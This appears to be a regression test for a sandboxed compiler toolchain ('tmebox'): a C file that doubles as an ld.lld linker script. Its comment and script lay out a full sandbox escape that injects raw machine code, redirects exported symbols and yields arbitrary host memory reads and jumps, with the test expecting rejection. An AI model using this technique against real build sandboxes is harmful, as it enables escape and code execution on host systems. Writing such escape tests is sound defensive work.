/*
 * Toolchain attack, full escape: the source is at the same time a C file and
 * an ld.lld linker script.  `#pragma comment(lib, "src/" __FILE__)` makes
 * ld.lld (cwd = tmebox-cc's temp dir, the source copy is src/NAME) read this
 * very file as a linker script.  lld ignores the `#` lines, so it sees only
 * the script between `#if 0` and the `SEARCH_DIR("` whose string swallows
 * the C code.  The script:
 *  - INPUTs the server's libc_nonshared.a and pulls atexit/at_quick_exit/
 *    __pthread_atfork (global STT_FUNC symbols whose code tail-jumps to an
 *    external symbol),
 *  - injects raw machine code into .text with BYTE()/LONG()
 *    (mov (%rdi),%rax;ret  /  mov hosttab(%rip),%rax; mov (%rax),%rax; ret
 *     /  jmp *%rdi),
 *  - points those tail-call targets at the injected code, and
 *  - re-points the exports __tmebox_export_{peek,leak,jump} at the
 *    STT_FUNC symbols, which the runtime's ELF check accepts.
 * tmebox-cc's machine-code check is a deny-list, so a plain memory operand
 * without %gs and `jmp *%rdi` pass it; the runtime loads the module.
 * `tmebox-run x.tmbx leak` then returns 8 bytes of host code
 * (rt_host_thunk_0), `peek ADDR` reads any host address, `jump ADDR`
 * jumps to any host address.
 *
 * Expected safe outcome: rejected (pragma comment refused; and the linker
 * must never read anything but the compiler's own object).
 */
#pragma comment(lib, "src/" __FILE__)
#if 0
INPUT(/usr/lib/x86_64-linux-gnu/libc_nonshared.a)
EXTERN(atexit at_quick_exit __pthread_atfork)
HIDDEN(__dso_handle = g_peek);
HIDDEN(__cxa_atexit = g_peek);
HIDDEN(__cxa_at_quick_exit = g_leak);
HIDDEN(__register_atfork = g_jump);
SECTIONS {
  .text : { *(.text .text.*)
    g_peek = .; LONG(0xc3078b48)
    g_leak = .; BYTE(0x48) BYTE(0x8b) BYTE(0x05) LONG(__tmebox_hosttab - (g_leak + 7)) BYTE(0x48) BYTE(0x8b) BYTE(0x00) BYTE(0xc3)
    g_jump = .; BYTE(0xff) BYTE(0xe7)
  } } INSERT AFTER .rodata;
__tmebox_export_peek = atexit;
__tmebox_export_leak = at_quick_exit;
__tmebox_export_jump = __pthread_atfork;
SEARCH_DIR("
#endif
// EXPECT-NO-LINE
// EXPECT-REJECT: pragma comment
// RUN: leak
long peek(long addr) { return addr; }
long leak(void) { return 0; }
long jump(long addr) { return addr; }
#if 0
")
#endif
